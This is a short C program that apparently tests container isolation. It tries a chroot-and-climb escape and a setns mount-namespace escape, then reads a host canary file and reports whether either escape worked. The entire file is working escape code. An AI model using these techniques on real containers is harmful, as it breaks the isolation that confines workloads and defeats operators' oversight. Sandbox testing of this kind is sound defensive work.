/* Ways out of a container that has no mount namespace of its own, as a workload with
 * CAP_SYS_CHROOT (and nothing more) would try them, each followed by reading a host file:
 *   chroot: the classic escape: chroot into a subdirectory while keeping the cwd outside it,
 *           climb with "..", chroot to where the climb ended;
 *   setns:  join its own mount namespace (the shared one), which resets the root to its "/".
 * argv[1]: absolute path of the host's canary file.
 * Prints "ESCAPED <route> <content>" or "HELD chroot <errno> setns <errno>". */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static int try_canary(const char *route, const char *canary) {
    char buf[256] = {0};
    int fd = open(canary, O_RDONLY);
    if (fd < 0)
        return errno;
    ssize_t n = read(fd, buf, sizeof buf - 1);
    if (n > 0)
        buf[strcspn(buf, "\n")] = 0;
    printf("ESCAPED %s %s\n", route, buf);
    return 0;
}

int main(int argc, char **argv) {
    if (argc < 2)
        return 2;
    int ns = open("/proc/self/ns/mnt", O_RDONLY);
    int e_chroot, e_setns;
    mkdir("/tmp/escape", 0700);
    if (chroot("/tmp/escape") != 0) {
        e_chroot = errno;
    } else {
        for (int i = 0; i < 64; i++)
            if (chdir("..") != 0)
                break;
        if (chroot(".") != 0)
            e_chroot = errno;
        else if ((e_chroot = try_canary("chroot", argv[1])) == 0)
            return 0;
    }
    if (ns < 0)
        e_setns = -1;
    else if (setns(ns, CLONE_NEWNS) != 0)
        e_setns = errno;
    else if ((e_setns = try_canary("setns", argv[1])) == 0)
        return 0;
    printf("HELD chroot %d setns %d\n", e_chroot, e_setns);
    return 0;
}
